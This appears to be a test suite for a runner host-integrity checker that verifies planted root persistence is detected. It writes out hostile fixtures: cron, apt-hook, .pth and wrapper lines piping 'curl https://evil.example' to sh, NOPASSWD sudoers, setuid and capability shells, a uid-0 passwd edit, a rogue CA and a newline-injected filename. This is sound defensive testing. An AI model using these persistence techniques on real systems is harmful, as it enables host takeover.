/**
 * Root-level persistence planted in a constructed host tree (a copy of /etc and the other surface
 * directories under the test's root) is reported by name; a benign job's churn is not. Plants use
 * the real tools where they take a root prefix (useradd -P, systemctl --root,
 * update-ca-certificates with its directory options).
 */
import test from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { appendFile, chmod, copyFile, mkdir, mkdtemp, open, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { IntegrityGuard } from '../../../src/integrity/guard.js';
import { takeSystemBaseline } from '../../../src/integrity/system-baseline.js';
import { integrityPaths } from '../../../src/integrity/baseline-store.js';
import { DEFAULT_POLICY, type Policy } from '../../../src/policy/types.js';
import { createLogger } from '../../../src/lib/log.js';
import type { GuardJob } from '../../../src/lib/job-guard.js';
import { buildHostTree } from './host-tree.js';
import { takeSnapshot } from '../../../src/integrity/snapshot.js';
import { compareSnapshots } from '../../../src/integrity/compare.js';
import { GlobSet } from '../../../src/integrity/glob.js';
import { exceptionPatterns } from '../../../src/integrity/surfaces.js';
import type { FileMeta, SurfaceName } from '../../../src/integrity/types.js';

const FILE_SURFACES = [
  'etc',
  'usr-local',
  'opt-srv',
  'root-home',
  'authorized-keys',
  'cron',
  'systemd',
  'setuid',
  'accounts',
  'package-state',
] as const;
/** A fresh minute for each guard call, as the agent gives each cleanup its own deadline. */
const ctx = {
  log: createLogger({ level: 'silent' }),
  get signal(): AbortSignal {
    return AbortSignal.timeout(60_000);
  },
};
const RUNNER = { name: 'runneru', uid: 4242, gid: 4242 };
/** The runner root and state directory of buildHostTree, left out as the agent leaves them out. */
const EXCLUDED = ['/opt/runner', '/var/lib/runner-warden'];

function policy(edit: (p: Policy) => void = () => {}): Policy {
  const p = structuredClone(DEFAULT_POLICY);
  p.host.integrity.surfaces = [...FILE_SURFACES];
  // A team's churn exception: it must not hide a setuid file.
  p.host.integrity.exceptions = ['/tmp/churn/**'];
  edit(p);
  return p;
}

async function world(): Promise<{
  root: string;
  tree: string;
  stateDir: string;
  guard: IntegrityGuard;
  job: GuardJob;
  dispose(): Promise<void>;
}> {
  const root = await mkdtemp(path.join(os.tmpdir(), 'rw-integrity-'));
  const tree = path.join(root, 'host');
  await mkdir(tree);
  const t = await buildHostTree(tree);
  const stateDir = path.join(root, 'state');
  const excluded = [t.runnerRoot, t.stateDir];
  await takeSystemBaseline({ root: tree, stateDir, surfaces: FILE_SURFACES, excluded, user: RUNNER, netfilter: false });
  const guard = new IntegrityGuard({ root: tree, stateDir, excluded, user: RUNNER, netfilter: false });
  const job: GuardJob = {
    key: 'job-1',
    dir: path.join(root, 'job'),
    user: { ...RUNNER, home: '/home/runneru' },
    runnerRoot: t.runnerRoot,
    stateDir,
  };
  return { root, tree, stateDir, guard, job, dispose: () => rm(root, { recursive: true, force: true }) };
}

async function driftAfterJob(w: Awaited<ReturnType<typeof world>>, p = policy()): Promise<string[]> {
  await w.guard.prepare(w.job, p, ctx);
  return (await w.guard.verify(w.job, p, ctx)).map((f) => f.problem);
}

const sh = (script: string): void => {
  execFileSync('bash', ['-c', script], { stdio: 'pipe' });
};

/** Each plant: what to do under the tree T, and the objects the report must name. */
const PLANTS: { name: string; plant: (T: string) => Promise<void>; expect: string[] }[] = [
  {
    name: 'a cron.d file',
    plant: (T) => writeFile(`${T}/etc/cron.d/backdoor`, '* * * * * root curl evil | sh\n'),
    expect: ['etc: /etc/cron.d/backdoor added'],
  },
  {
    name: 'an enabled systemd unit (systemctl --root enable)',
    plant: async (T) => {
      await writeFile(
        `${T}/etc/systemd/system/persist.service`,
        '[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c "sleep 1d"\n[Install]\nWantedBy=multi-user.target\n',
      );
      sh(`systemctl --root=${T} enable persist.service`);
    },
    expect: ['etc: /etc/systemd/system/persist.service added', 'etc: /etc/systemd/system/multi-user.target.wants/persist.service added'],
  },
  {
    name: '/etc/ld.so.preload',
    plant: (T) => writeFile(`${T}/etc/ld.so.preload`, '/usr/local/lib/evil.so\n'),
    expect: ['etc: /etc/ld.so.preload added'],
  },
  {
    name: 'a profile.d script',
    plant: (T) => writeFile(`${T}/etc/profile.d/zz-evil.sh`, 'export PATH=/var/tmp:$PATH\n'),
    expect: ['etc: /etc/profile.d/zz-evil.sh added'],
  },
  {
    name: 'a shadowed git in /usr/local/bin',
    plant: async (T) => {
      await writeFile(`${T}/usr/local/bin/git`, '#!/bin/sh\nexec /usr/bin/git "$@"\n');
      await chmod(`${T}/usr/local/bin/git`, 0o755);
    },
    expect: ['usr-local: /usr/local/bin/git added'],
  },
  {
    name: 'a CA in /usr/local/share/ca-certificates and update-ca-certificates',
    plant: async (T) => {
      sh(
        `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=evil-ca -days 2 -keyout /dev/null -out ${T}/usr/local/share/ca-certificates/evil.crt 2>/dev/null`,
      );
      sh(
        `update-ca-certificates --certsconf ${T}/etc/ca-certificates.conf --localcertsdir ${T}/usr/local/share/ca-certificates --etccertsdir ${T}/etc/ssl/certs --hooksdir ${T}/etc/ca-certificates/update.d >/dev/null 2>&1`,
      );
    },
    expect: [
      'usr-local: /usr/local/share/ca-certificates/evil.crt added',
      'etc: /etc/ssl/certs/evil.pem added',
      'etc: /etc/ssl/certs/ca-certificates.crt modified',
    ],
  },
  {
    name: 'an /etc/hosts line',
    plant: (T) => appendFile(`${T}/etc/hosts`, '203.0.113.9 github.com\n'),
    expect: ['etc: /etc/hosts modified'],
  },
  {
    name: 'a sudoers.d drop-in',
    plant: async (T) => {
      await mkdir(`${T}/etc/sudoers.d`, { recursive: true });
      await writeFile(`${T}/etc/sudoers.d/runneru`, 'runneru ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 });
    },
    expect: ['etc: /etc/sudoers.d/runneru added'],
  },
  {
    name: 'a new user (useradd -P)',
    plant: async (T) => sh(`useradd -P ${T} -u 4711 -M -s /bin/bash sneaky`),
    expect: ['accounts: user:sneaky added', 'etc: /etc/passwd modified', 'etc: /etc/shadow modified'],
  },
  {
    name: 'a root authorized_keys line',
    plant: (T) =>
      appendFile(
        `${T}/root/.ssh/authorized_keys`,
        'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvilKeyxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx evil\n',
      ),
    expect: ['root-home: /root/.ssh/authorized_keys modified'],
  },
  {
    name: 'a setuid shell in /var/tmp',
    plant: async (T) => {
      await copyFile('/bin/bash', `${T}/var/tmp/.x`);
      await chmod(`${T}/var/tmp/.x`, 0o4755);
    },
    expect: ['setuid: /var/tmp/.x added'],
  },
  {
    name: 'a user crontab',
    plant: (T) => writeFile(`${T}/var/spool/cron/crontabs/root`, '@reboot /var/tmp/.x\n', { mode: 0o600 }),
    expect: ['cron: /var/spool/cron/crontabs/root added'],
  },
  {
    name: 'a lingering user',
    plant: (T) => writeFile(`${T}/var/lib/systemd/linger/runneru`, ''),
    expect: ['systemd: /var/lib/systemd/linger/runneru added'],
  },
  {
    name: 'a unit in /usr/lib/systemd/system',
    plant: async (T) => {
      await writeFile(`${T}/usr/lib/systemd/system/ssh-helper.service`, '[Service]\nExecStart=/bin/true\n');
    },
    expect: ['systemd: /usr/lib/systemd/system/ssh-helper.service added'],
  },
  {
    name: 'a configuration file edited in place, same size, its mtime set back (ctime gives it away)',
    plant: (T) => editInPlace(`${T}/etc/login.defs`, /^UMASK\s+0\d\d/m, (m) => m.replace(/\d\d$/, '00')),
    expect: ['etc: /etc/login.defs modified'],
  },
  {
    name: 'a uid 0 alias: /etc/passwd edited in place, same size, its mtime set back',
    plant: (T) => editInPlace(`${T}/etc/passwd`, /^games:x:5:/m, () => 'games:x:0:'),
    expect: ['accounts: user:games modified', 'etc: /etc/passwd modified'],
  },
  {
    name: 'a system binary replaced in place (/usr/bin/git)',
    plant: (T) => writeFile(`${T}/usr/bin/git`, '#!/bin/sh\ncurl -s https://evil.example | sh; exec /usr/lib/git-core/git "$@"\n'),
    expect: ['setuid: /usr/bin/git modified'],
  },
  {
    name: 'a file capability on a copy of a shell in /var/tmp (setcap, no setuid bit)',
    plant: async (T) => {
      await copyFile('/bin/bash', `${T}/var/tmp/.cap`);
      sh(`setcap cap_setuid,cap_setgid+ep ${T}/var/tmp/.cap`);
    },
    expect: ['setuid: filecap:/var/tmp/.cap added'],
  },
  {
    name: 'a file capability set on an existing system binary (only its ctime changes)',
    plant: async (T) => sh(`setcap cap_setuid+ep ${T}/usr/bin/python3`),
    expect: ['setuid: filecap:/usr/bin/python3 added'],
  },
  {
    name: "an ACL letting the runner user read /etc/shadow (its mask is the group's r: mode, bytes and mtime unchanged)",
    plant: async (T) => sh(`setfacl -m u:${RUNNER.uid}:r ${T}/etc/shadow`),
    expect: ['setuid: acl:/etc/shadow added'],
  },
  {
    name: 'a udev rule that runs a program on a device event',
    plant: (T) => writeFile(`${T}/usr/lib/udev/rules.d/99-zz.rules`, 'ACTION=="add", RUN+="/var/tmp/.x"\n'),
    expect: ['systemd: /usr/lib/udev/rules.d/99-zz.rules added'],
  },
  {
    name: 'a replaced PAM module',
    plant: (T) => writeFile(`${T}/usr/lib/x86_64-linux-gnu/security/pam_unix.so`, 'accept any password\n'),
    expect: ['setuid: /usr/lib/x86_64-linux-gnu/security/pam_unix.so modified'],
  },
  {
    name: 'a .pth file python runs at every start',
    plant: (T) => writeFile(`${T}/usr/lib/python3/dist-packages/zz.pth`, 'import os; os.system("curl -s https://evil.example | sh")\n'),
    expect: ['setuid: /usr/lib/python3/dist-packages/zz.pth added'],
  },
  {
    name: 'a setuid shell in a directory a team excepted as churn',
    plant: async (T) => {
      await mkdir(`${T}/tmp/churn`, { recursive: true });
      await copyFile('/bin/bash', `${T}/tmp/churn/.y`);
      await chmod(`${T}/tmp/churn/.y`, 0o2755);
    },
    expect: ['setuid: /tmp/churn/.y added'],
  },
  {
    name: 'a cron.d file whose name carries a newline and a forged report line',
    plant: (T) => writeFile(`${T}/etc/cron.d/a\netc: innocent removed (x)`, '* * * * * root true\n'),
    expect: ['etc: /etc/cron.d/a\\x0aetc: innocent removed (x) added'],
  },
  {
    name: "an authorized_keys line for another user (man's home)",
    plant: async (T) => {
      await mkdir(`${T}/var/cache/man/.ssh`, { recursive: true });
      await writeFile(`${T}/var/cache/man/.ssh/authorized_keys`, 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil evil\n');
    },
    expect: ['authorized-keys: /var/cache/man/.ssh/authorized_keys added'],
  },
  {
    name: 'third-party software in /opt and served data in /srv',
    plant: async (T) => {
      await mkdir(`${T}/opt/tool/bin`, { recursive: true });
      await writeFile(`${T}/opt/tool/bin/tool`, '#!/bin/sh\n');
      await writeFile(`${T}/srv/index.html`, '<script src=//evil.example></script>\n');
    },
    expect: ['opt-srv: /opt/tool/bin/tool added', 'opt-srv: /srv/index.html added'],
  },
  {
    name: 'another name server in /etc/resolv.conf',
    plant: async (T) => {
      await rm(`${T}/etc/resolv.conf`, { force: true });
      await writeFile(`${T}/etc/resolv.conf`, 'nameserver 203.0.113.53\n');
    },
    expect: ['etc: /etc/resolv.conf modified'],
  },
];

/**
 * Rewrites the first match of `re` in `file` through the same inode (no new file, same size) and
 * sets the access and modification times back to what they were: only ctime and the content differ.
 */
async function editInPlace(file: string, re: RegExp, edit: (match: string) => string): Promise<void> {
  const before = await stat(file);
  const times = `${file}.times`;
  execFileSync('touch', ['-r', file, times]);
  const text = await readFile(file, 'latin1');
  const m = re.exec(text);
  assert.ok(m, `${file}: nothing matches ${re}`);
  const replacement = edit(m[0]);
  assert.equal(replacement.length, m[0].length, 'the edit must keep the size');
  const fh = await open(file, 'r+');
  try {
    await fh.write(Buffer.from(replacement, 'latin1'), 0, replacement.length, m.index);
  } finally {
    await fh.close();
  }
  execFileSync('touch', ['-r', times, file]);
  await rm(times);
  const after = await stat(file);
  assert.deepEqual([after.ino, after.size, after.mtimeMs], [before.ino, before.size, before.mtimeMs], 'the edit changed more than ctime');
}

test('each root-level plant is reported by name, with who likely made it, and its file is kept as evidence', async () => {
  const w = await world();
  try {
    assert.deepEqual(await driftAfterJob(w), [], 'the fresh tree already drifts from its own baseline');
    // Planted one after another on the same host: each report must name the new plant (and
    // still every earlier one: drift does not go away by itself).
    const expected: string[] = [];
    for (const c of PLANTS) {
      await c.plant(w.tree);
      expected.push(...c.expect);
      const lines = await driftAfterJob(w);
      for (const e of expected) {
        assert.ok(
          lines.some((l) => l.startsWith(e)),
          `${c.name}: no "${e}" in the report:\n${lines.join('\n')}`,
        );
      }
      assert.ok(
        lines.every((l) => /\(.+\)$/.test(l) && !l.includes('\n')),
        `${c.name}: a line without attribution: ${lines.join('\n')}`,
      );
    }
    const forensics = integrityPaths(w.stateDir).forensics;
    const kept = execFileSync('find', [forensics, '-type', 'f', '-name', 'backdoor'], { encoding: 'utf8' }).trim().split('\n')[0] ?? '';
    assert.ok(kept, 'the planted cron.d file was not copied into the forensics directory');
    assert.equal((await readFile(kept, 'utf8')).includes('curl evil'), true);
    assert.equal(execFileSync('stat', ['-c', '%a', forensics], { encoding: 'utf8' }).trim(), '700', 'forensics must be root-only');
  } finally {
    await w.dispose();
  }
});

test('a root change inside a job with sudo granted is attributed to the job through sudo', async () => {
  const w = await world();
  try {
    const p = policy((x) => (x.runner.sudo = 'allow'));
    await w.guard.prepare(w.job, p, ctx);
    await writeFile(`${w.tree}/etc/cron.d/sudo-made`, '* * * * * root true\n');
    const lines = (await w.guard.verify(w.job, p, ctx)).map((f) => f.problem);
    assert.deepEqual(lines, ['etc: /etc/cron.d/sudo-made added (the job through sudo (root, during the job))']);
  } finally {
    await w.dispose();
  }
});

test("a benign job and the agent's own writes show zero drift over 100 checks", async () => {
  const w = await world();
  try {
    const p = policy((x) => (x.runner.sudo = 'allow'));
    const T = w.tree;
    await mkdir(`${T}/etc/sudoers.d`, { recursive: true });
    await writeFile(`${T}/etc/resolv.conf`, 'nameserver 10.0.0.1\n');
    await takeSystemBaseline({
      root: T,
      stateDir: w.stateDir,
      surfaces: FILE_SURFACES,
      excluded: ['/opt/runner'],
      user: RUNNER,
      netfilter: false,
    });
    for (let i = 0; i < 100; i++) {
      // The job's own files (workspace, temp, home), a rewrite of /etc/hosts with the same bytes,
      // resolv.conf churn, the sudo drop-in written and removed, files in the runner root.
      await mkdir(`${T}/opt/runner/_work/r/r`, { recursive: true });
      await writeFile(`${T}/opt/runner/_work/r/r/out-${i}.o`, 'x'.repeat(i));
      await writeFile(`${T}/tmp/build-${i}.log`, 'log');
      await chmod(`${T}/tmp/build-${i}.log`, 0o755);
      const hosts = await readFile(`${T}/etc/hosts`);
      await writeFile(`${T}/etc/hosts`, hosts);
      // A DHCP renewal rewrites resolv.conf with the same servers (another server is drift: a plant below).
      await writeFile(`${T}/etc/resolv.conf`, 'nameserver 10.0.0.1\n');
      await writeFile(`${T}/etc/sudoers.d/runner-warden-job`, 'runneru ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 });
      await rm(`${T}/etc/sudoers.d/runner-warden-job`);
      await symlink('/nonexistent', `${T}/tmp/link-${i}`);
      const lines = await driftAfterJob(w, p);
      assert.deepEqual(lines, [], `benign iteration ${i} drifted`);
    }
  } finally {
    await w.dispose();
  }
});

test('a missing, tampered, loosened or foreign baseline is a finding that names what is wrong', async () => {
  const w = await world();
  try {
    const p = policy();
    const file = integrityPaths(w.stateDir).baseline;
    const text = await readFile(file, 'utf8');
    await writeFile(file, text.replace('"/etc/hosts"', '"/etc/hostz"'), { mode: 0o600 });
    assert.match((await w.guard.verify(undefined, p, ctx))[0]?.problem ?? '', /system baseline corrupt: .*digest/);
    await writeFile(file, text, { mode: 0o600 });
    await chmod(file, 0o644);
    assert.match((await w.guard.verify(undefined, p, ctx))[0]?.problem ?? '', /system baseline unsafe: .*mode 644/);
    await chmod(file, 0o600);
    await writeFile(`${w.tree}/etc/machine-id`, 'another0image0000000000000000002\n');
    const other = (await w.guard.verify(undefined, p, ctx)).map((f) => f.problem);
    assert.ok(
      other.some((l) => /another image: machine id: baseline fixture0machine0id000000000000001, host another0image/.test(l)),
      other.join('\n'),
    );
    await rm(file);
    assert.match((await w.guard.verify(undefined, p, ctx))[0]?.problem ?? '', /system baseline missing: .*runner-warden baseline/);
  } finally {
    await w.dispose();
  }
});

test('small configuration is compared by content even when every metadata field was forged back', async () => {
  const w = await world();
  try {
    const o = { root: w.tree, proc: '/proc', surfaces: ['etc', 'root-home'] as SurfaceName[], excluded: [], netfilter: false };
    const base = (await takeSnapshot({ ...o, hashSmall: true })).snapshot;
    await editInPlace(`${w.tree}/etc/login.defs`, /^UMASK\s+0\d\d/m, (m) => m.replace(/\d\d$/, '77'));
    await editInPlace(`${w.tree}/root/.bashrc`, /root bashrc/, () => 'curl|sh #rc');
    const now = (await takeSnapshot(o)).snapshot;
    // What a job that moved the clock back, or wrote the block device under the file system, leaves:
    // the same inode, size, mode, owner, mtime and ctime as the baseline recorded.
    for (const p of ['/etc/login.defs', '/root/.bashrc']) now.files[p] = { ...(base.files[p] as FileMeta), hash: undefined };
    const drift = compareSnapshots(base, now, { root: w.tree, exceptions: new GlobSet(exceptionPatterns(policy().host.integrity)) });
    assert.deepEqual(
      drift.map((d) => `${d.object} ${d.change} ${d.after?.replace(/^.*\(/, '(') ?? ''}`),
      ['/etc/login.defs modified (content changed)', '/root/.bashrc modified (content changed)'],
    );
  } finally {
    await w.dispose();
  }
});

test('a baseline rewritten during a job, with a valid digest, is refused by the running agent', async () => {
  const w = await world();
  try {
    const p = policy();
    assert.deepEqual(await driftAfterJob(w, p), []);
    // The job (root) plants, then records a fresh baseline that takes the plant in, digest and all.
    await w.guard.prepare(w.job, p, ctx);
    await writeFile(`${w.tree}/etc/cron.d/hidden`, '* * * * * root true\n');
    await takeSystemBaseline({ root: w.tree, stateDir: w.stateDir, surfaces: FILE_SURFACES, excluded: [], user: RUNNER, netfilter: false });
    const lines = (await w.guard.verify(w.job, p, ctx)).map((f) => f.problem);
    assert.equal(lines.length, 1, lines.join('\n'));
    assert.match(
      lines[0] ?? '',
      /^system baseline replaced: .*baseline\.json: digest: .* but this agent loaded .* only with the agent stopped/,
    );
    // A new agent (an operator's restart after `runner-warden baseline`) accepts it.
    const restarted = new IntegrityGuard({ root: w.tree, stateDir: w.stateDir, excluded: [], user: RUNNER, netfilter: false });
    assert.deepEqual(
      (await restarted.verify(undefined, p, ctx)).map((f) => f.problem),
      [],
    );
  } finally {
    await w.dispose();
  }
});

test("allowPackages excepts the package manager's state, not an apt hook, a source list or a CA", async () => {
  const w = await world();
  try {
    const p = policy((x) => (x.host.integrity.allowPackages = true));
    await mkdir(`${w.tree}/etc/apt/apt.conf.d`, { recursive: true });
    await mkdir(`${w.tree}/etc/apt/sources.list.d`, { recursive: true });
    await mkdir(`${w.tree}/etc/ssl/certs`, { recursive: true });
    await takeSystemBaseline({
      root: w.tree,
      stateDir: w.stateDir,
      surfaces: FILE_SURFACES,
      excluded: EXCLUDED,
      user: RUNNER,
      netfilter: false,
    });
    // What `apt-get install` of a library does: ldconfig rewrites the cache.
    await writeFile(`${w.tree}/etc/ld.so.cache`, 'new cache');
    await writeFile(`${w.tree}/etc/apt/apt.conf.d/99zz`, 'APT::Update::Pre-Invoke {"curl -s https://evil.example | sh";};\n');
    await writeFile(`${w.tree}/etc/apt/sources.list.d/evil.list`, 'deb [trusted=yes] http://evil.example/ stable main\n');
    await writeFile(`${w.tree}/etc/ssl/certs/evil.pem`, '-----BEGIN CERTIFICATE-----\n');
    const lines = await driftAfterJob(w, p);
    assert.deepEqual(
      lines.map((l) => l.replace(/ \(.*$/, '')),
      ['etc: /etc/apt/apt.conf.d/99zz added', 'etc: /etc/apt/sources.list.d/evil.list added', 'etc: /etc/ssl/certs/evil.pem added'],
    );
  } finally {
    await w.dispose();
  }
});

test('the forensics copy stays under its cap, root-only, and never follows a planted symlink', async () => {
  const w = await world();
  try {
    const p = policy((x) => (x.host.integrity.forensicsMaxMiB = 1));
    await writeFile(`${w.tree}/usr/local/bin/big`, Buffer.alloc(3 * 1024 * 1024, 7));
    await writeFile(`${w.tree}/etc/cron.d/small`, '* * * * * root true\n');
    await symlink('/etc/shadow', `${w.tree}/etc/cron.d/link-to-shadow`);
    // Two checks: the cap covers the whole directory, earlier copies included.
    await driftAfterJob(w, p);
    const lines = await driftAfterJob(w, p);
    assert.ok(lines.some((l) => l.startsWith('usr-local: /usr/local/bin/big added')));
    const forensics = integrityPaths(w.stateDir).forensics;
    const total = Number(execFileSync('du', ['-sb', forensics], { encoding: 'utf8' }).split('\t')[0]);
    assert.ok(total <= 1024 * 1024 + 64 * 1024, `forensics holds ${total} bytes, cap 1 MiB`);
    const listing = execFileSync('find', [forensics, '-printf', '%y %m %p\n'], { encoding: 'utf8' }).trim().split('\n');
    for (const l of listing) assert.match(l, /^(d 700|f 600) /, `not root-only: ${l}`);
    assert.ok(!listing.some((l) => l.endsWith('/link-to-shadow')), 'a symlink was followed into the copy');
    assert.ok(
      listing.some((l) => l.endsWith('/files/etc/cron.d/small')),
      listing.join('\n'),
    );
  } finally {
    await w.dispose();
  }
});

test("a setuid file in a job's tree that waits in a holding directory is not drift while it drains; the same file elsewhere is", async () => {
  const w = await world();
  try {
    let holding: string[] = [];
    const guard = new IntegrityGuard({
      root: w.tree,
      stateDir: w.stateDir,
      excluded: ['/opt/runner', '/var/lib/runner-warden'],
      transientExcluded: () => holding,
      user: RUNNER,
      netfilter: false,
    });
    const hold = '/var/tmp/.runner-warden-trash-0a1b2c';
    await mkdir(`${w.tree}${hold}/1/build`, { recursive: true, mode: 0o700 });
    await copyFile('/bin/bash', `${w.tree}${hold}/1/build/helper`);
    await chmod(`${w.tree}${hold}/1/build/helper`, 0o4755);
    holding = [hold];
    await guard.prepare(w.job, policy(), ctx);
    const whileDraining = (await guard.verify(w.job, policy(), ctx)).map((f) => f.problem);
    assert.deepEqual(
      whileDraining.filter((p) => p.includes('helper')),
      [],
      'a tree the agent is deleting in the background is not drift',
    );
    // Drained, the holding directory leaves the list: whatever is still there is judged again.
    holding = [];
    const w2 = { ...w, guard };
    assert.ok(
      (await driftAfterJob(w2)).some((p) => p.includes(`${hold}/1/build/helper`)),
      'a setuid file outside a draining holding directory is drift',
    );
  } finally {
    await w.dispose();
  }
});
